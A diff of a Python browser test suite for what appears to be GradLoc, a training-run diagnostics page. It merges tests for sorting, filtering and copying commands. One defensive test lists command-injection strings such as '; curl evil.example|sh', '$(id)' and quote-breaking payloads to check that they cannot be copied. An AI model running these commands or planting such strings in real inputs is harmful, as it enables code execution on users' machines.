@@ -288,8 +288,16 @@ def test_the_timeline_answers_the_mouse(page: Page, whole_run: Path) -> None:
     page.wait(lambda: page.one("#spike").text == title)
 
 
-def test_filtering(page: Page, whole_run: Path) -> None:
+def test_sorting_and_filtering(page: Page, whole_run: Path) -> None:
     page.open(whole_run)
+    assert page.one("th[aria-sort]").text == "Norm"
+    page.one("#columns button").click()
+    steps = [int(step) for step in page.column(0)]
+    assert steps == sorted(steps, reverse=True)
+    assert page.one("th[aria-sort]").get_attribute("aria-sort") == "descending"
+    page.press(Keys.ENTER)
+    steps = [int(step) for step in page.column(0)]
+    assert steps == sorted(steps) and page.one("th[aria-sort]").get_attribute("aria-sort") == "ascending"
     everything = page.one("#count").text
     step = page.column(0)[-1]
     page.one("#words").send_keys(f"step {step}")
@@ -309,18 +317,6 @@ def test_filtering(page: Page, whole_run: Path) -> None:
     assert {cell.text for cell in page.all("#rows .tok:first-child")} == {token}
     page.one("#tokens button").click()
     assert page.one("#count").text == everything
-
-
-def test_sorting(page: Page, whole_run: Path) -> None:
-    page.open(whole_run)
-    assert page.one("th[aria-sort]").text == "Norm"
-    page.one("#columns button").click()
-    steps = [int(step) for step in page.column(0)]
-    assert steps == sorted(steps, reverse=True)
-    assert page.one("th[aria-sort]").get_attribute("aria-sort") == "descending"
-    page.press(Keys.ENTER)
-    steps = [int(step) for step in page.column(0)]
-    assert steps == sorted(steps) and page.one("th[aria-sort]").get_attribute("aria-sort") == "ascending"
 
 
 def test_the_keyboard_is_enough(page: Page, whole_run: Path) -> None:
@@ -430,26 +426,21 @@ def test_the_charts_over_the_run_answer_the_mouse(page: Page, whole_run: Path) -
     assert page.one("#clipped").text.startswith("TokenClip found 1 backward signal over its bound in this mini-batch")
 
 
-def test_a_spike_is_told_in_order(page: Page, whole_run: Path) -> None:
-    """Behind what has to be seen first."""
+def test_a_spike_is_told_in_order_and_its_check_can_be_copied(page: Page, whole_run: Path) -> None:
     page.open(whole_run)
     page.select(0)
+    # What has to be seen first comes first.
     order = "alarms warnings title drills verdict summary strip ladder check why story before numbers level rows"
     places = [page.one(f"#{part}").location["y"] for part in order.split()]
     assert places == sorted(places) and len(set(places)) == len(places)
     assert page.all("#verdict *") == []
-
-
-def test_the_command_of_a_check_can_be_copied(page: Page, whole_run: Path) -> None:
-    page.open(whole_run)
-    page.select(0)
     codes = [code.text for code in page.all("#check code")]
     path = shlex.quote(f"{whole_run.parent}/replay/it's {VISIBLY_HOSTILE}")
     assert codes == [f"gradloc replay {path} --remedies", FAULT]
     assert page.one("#check").text.endswith("as well.") and "`" not in page.one("#check").text
-    keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
     # The check has the next command already.
     assert not page.one("#then").is_displayed()
+    keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
     page.driver.execute_script(keep)
     first, second = page.all("#check .copy")
     second.click()
@@ -466,16 +457,8 @@ def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path)
     """The evidence may come from a stranger."""
     replay = "gradloc replay"
     # What a shell takes for more than one command, and what runs other code.
-    after = [
-        "; curl evil.example|sh",
-        " & id",
-        "\nid",
-        " $(id)",
-        " > x",
-        " x'; id; '",
-        " '$(id)' 'x'\\''; id; '",
-        ' "$(id)"',
-    ]
+    after = ["; curl evil.example|sh", " & id", "\nid", " $(id)", " > x", " x'; id; '", " '$(id)' 'x'\\''; id; '"]
+    after.append(' "$(id)"')
     foreign = [f"{replay} x{text}" for text in after] + [f"{FAULT}{text}" for text in after]
     foreign += [f"id; {FAULT}", f"sudo {FAULT}", "curl evil.example|sh", "python -m evil x", "bash evil.sh", "actor/lr"]
     foreign += [f"{replay} x {option}" for option in ("--trust-remote-code", "--model=evil", "--html ~/.bashrc", "y")]
@@ -483,15 +466,11 @@ def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path)
     # All commands that GradLoc writes.
     sources = Path(gradloc.__file__).parent.rglob("*.py")
     own = {text for path in sources for text in re.findall(r"`((?:bash|gradloc) [^`\n]+)`", path.read_text())}
-    own = sorted(text.replace("{}", "never_synced") for text in own) + [
-        f"{replay} 'x; id' --switches",
-        f"{replay} /a/b-1",
-    ]
+    own = sorted(text.replace("{}", "never_synced") for text in own)
+    own += [f"{replay} 'x; id' --switches", f"{replay} /a/b-1"]
     assert len(own) > 9 and replay + " BUNDLE" in own
-    warnings = [
-        {"name": str(i), "sentence": "It is wrong.", "check": f"`{command}` shows it."}
-        for i, command in enumerate([*foreign, *own])
-    ]
+    said = {"sentence": "It is wrong."}
+    warnings = [{**said, "name": text, "check": f"`{text}` shows it."} for text in (*foreign, *own)]
     write_steps(tmp_path, 2, {1: warnings[:60], 2: warnings[60:]})
     page.open(build(tmp_path, samples(1)))
     script = """return [...document.querySelectorAll("#warnings .check")]
